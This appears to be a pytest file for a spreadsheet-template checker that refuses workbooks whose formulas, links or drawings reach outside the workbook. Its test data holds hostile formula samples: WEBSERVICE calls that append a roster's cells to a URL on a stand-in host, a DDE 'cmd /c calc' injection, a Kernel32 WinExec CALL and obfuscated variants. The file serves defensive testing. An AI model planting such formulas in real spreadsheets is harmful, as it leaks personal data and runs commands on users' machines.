"""A template that would send what is filled in to somewhere else is refused, and one that only works things out is not."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from linli.kernel.errors import LinliError
from linli.papers import Form, read_table
from linli.papers.reaching import outside

from .workbooks import RELS, cell, workbook

OUTWARD = (
    '_xlfn.WEBSERVICE("http://x/?"&_xlfn.TEXTJOIN(",",TRUE,名单!A2:C3000))',
    'webservice ("http://x")',
    '_x0057_EBSERVICE("http://x")',
    'ＷＥＢＳＥＲＶＩＣＥ("http://x")',
    '_xlfn.IMAGE("http://x/"&名单!B2)',
    'IF(1,_xlfn.FILTERXML(A1,"//a"),0)',
    "_xlfn.LET(_xlpm.w,_xleta.WEBSERVICE,_xlpm.w(A1))",
    '_xlfn.ENCODEURL("x")',
    'RTD("server",,"x")',
    'CALL("Kernel32","WinExec","JC",A1)',
    'REGISTER.ID("a","b")',
    'HYPERLINK("http://x/?"&A1,"查看")',
    "HYPERLINK(A1)",
    'HYPERLINK("\\\\host\\share")',
    'HYPERLINK("http://x")&HYPERLINK(A2)',
    "cmd|'/c calc'!A0",
    "'cmd|x'!A0",
    "[1]Sheet1!A1",
    "[1]!合计",
    "SUM('[2]表 (一)'!$A$1:$B$9)",
    "'C:\\[其他.xlsx]表'!A1",
    "'file:///tmp/a.ods'#$Sheet1.A1",
    'EVALUATE("WEB"&"SERVICE(1)")',
)
INWARD = (
    "SUM(B4:B6)",
    "'表 1'!B7*2",
    "Table1[金额]+Sheet2!A1",
    "SUM(表1[[#This Row],[金额]:[合计]])/Sheet2!$B$1",
    'IF(A1="[1]Sheet1!A1 | WEBSERVICE(1)","http://x",1)',
    'IF(A1="a""b",2,3)',
    "IMAGE!A1+RTD1",
    'HYPERLINK("https://www.example.org","说明")',
    'HYPERLINK("#表1!A1","回到表1")',
    "_xlfn.XLOOKUP(A1,B:B,C:C)",
    "A1#+#REF!",
    "PY1+MYCALL(2)",
)


@pytest.mark.parametrize("formula", OUTWARD)
def test_a_formula_that_reaches_out_is_found(formula: str):
    assert outside(formula)


@pytest.mark.parametrize("formula", INWARD)
def test_a_formula_over_its_own_workbook_is_none(formula: str):
    assert not outside(formula)


@given(st.text(alphabet="abcXYZ 一二|[]!'()&:/,", max_size=30))
def test_what_stands_in_a_text_is_no_matter(text: str):
    assert not outside(f'IF(A1="{text}",1,2)')


def escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


def refused(path: Path) -> LinliError:
    with pytest.raises(LinliError) as caught, Form(path):
        pass
    return caught.value


BAD = escaped('WEBSERVICE("http://x/?"&A1)')
ROW = f'<row r="1">{cell("A1", "姓名")}</row>'


@pytest.mark.parametrize(
    ("sheets", "more", "where"),
    [
        ({"名单": ROW, "统计": f"<row><c/><c><f>{BAD}</f></c></row>"}, {}, "统计!B1"),
        ({"名单": f'<row r="7"><c r="D7"><f t="array" ref="D7"><!-- -->{BAD}</f></c></row>'}, {}, "名单!D7"),
        ({"名单": ROW}, {"workbook_pr": f'<definedNames><definedName name="往外">{BAD}</definedName></definedNames>'}, "workbook.xml!往外"),
        (
            {"名单": ROW},
            {"after": f'<conditionalFormatting sqref="B2:B9"><cfRule><formula>{BAD}</formula></cfRule></conditionalFormatting>'},
            "名单!B2:B9",
        ),
        (
            {"名单": ROW},
            {"after": f'<dataValidations><dataValidation sqref="C3"><formula1>{BAD}</formula1></dataValidation></dataValidations>'},
            "名单!C3",
        ),
        ({"名单": ROW}, {"after": '<webPublishItems><webPublishItem destinationFile="x"/></webPublishItems>'}, "名单"),
        (
            {"名单": ROW},
            {"extra": {"xl/tables/a.bin": f"<table><calculatedColumnFormula>{BAD}</calculatedColumnFormula></table>"}},
            "a.bin",
        ),
        ({"名单": ROW}, {"extra": {"xl/drawings/a.vml": "<xml><br><x:FmlaMacro>[1]!Run</x:FmlaMacro></xml>"}}, "a.vml"),
        ({"名单": ROW}, {"extra": {"xl/drawings/d.xml": '<a><sp macro="[0]!Run" textlink=""/></a>'}}, "d.xml"),
    ],
)
def test_a_template_is_refused_by_sheet_and_cell(tmp_path: Path, sheets: dict[str, str], more: dict[str, object], where: str):
    error = refused(workbook(tmp_path / "t.xlsx", "", sheets=sheets, **more))  # type: ignore[arg-type]
    assert error.code == "papers.outward_formula"
    assert error.place is not None
    assert error.place.field == where
    assert error.zh.startswith(where)
    assert error.remedy_zh
    assert error.remedy_en


@pytest.mark.parametrize("number", ["9" * 5000, "x", "-1"])
def test_a_row_without_a_number_is_damage(tmp_path: Path, number: str):
    path = workbook(tmp_path / "t.xlsx", f'<row r="{number}">{cell("A1", "姓名")}</row>')
    with Form(path) as form, pytest.raises(LinliError, match="Not a whole"):
        form.slot("A1")
    with pytest.raises(LinliError):
        list(read_table(path).rows)


@pytest.mark.parametrize(("target", "good"), [("http://example.org/", True), ("\\\\host\\x", False), ("file:///x", False)])
def test_links_of_a_template_go_to_the_web_or_nowhere(tmp_path: Path, target: str, good: bool):
    rels = f'<Relationships><Relationship Id="a" Type="{RELS}/hyperlink" Target="{target}" TargetMode="External"/></Relationships>'
    path = workbook(tmp_path / "t.xlsx", ROW, extra={"xl/worksheets/_rels/sheet1.xml.rels": rels})
    if not good:
        assert refused(path).code == "papers.outward_link"
    else:
        with Form(path) as form:
            assert form.sheets == ("名单",)
